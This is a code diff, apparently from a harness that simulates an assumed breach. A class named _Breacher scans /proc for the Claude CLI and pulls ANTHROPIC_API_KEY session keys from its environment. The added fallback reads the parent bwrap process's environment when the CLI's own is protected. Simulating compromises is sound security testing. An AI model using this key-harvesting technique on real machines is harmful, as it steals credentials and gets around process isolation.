@@ -221,7 +221,7 @@ class _Breacher:
                     argv = Path(entry.path, "cmdline").read_bytes().split(b"\0")
                     if argv[0] != b"/opt/claude/claude":
                         continue
-                    for line in Path(entry.path, "environ").read_bytes().split(b"\0"):
+                    for line in _environ_of(int(entry.name)).split(b"\0"):
                         if line.startswith(b"ANTHROPIC_API_KEY=" + SESSION_KEY_PREFIX.encode()):
                             self._leave(line.split(b"=", 1)[1])
 
@@ -232,6 +232,18 @@ class _Breacher:
                 if not target.exists() or target.read_bytes() != key:
                     target.write_bytes(key)
                     target.chmod(0o444)
+
+
+def _environ_of(pid: int) -> bytes:
+    """The CLI's environment: its own, or, where the host may not read it (a non-root runner: the
+    execute-only CLI is not dumpable, so its /proc files belong to root), the environment of the
+    bwrap that started it, which handed the CLI that environment (the breach is assumed either way)."""
+    try:
+        return Path(f"/proc/{pid}/environ").read_bytes()
+    except PermissionError:
+        status = Path(f"/proc/{pid}/status").read_text()
+        parent = int(next(ln.split()[1] for ln in status.splitlines() if ln.startswith("PPid:")))
+        return Path(f"/proc/{parent}/environ").read_bytes()
 
 
 def _descends_from(pid: int, ancestor: int) -> bool:
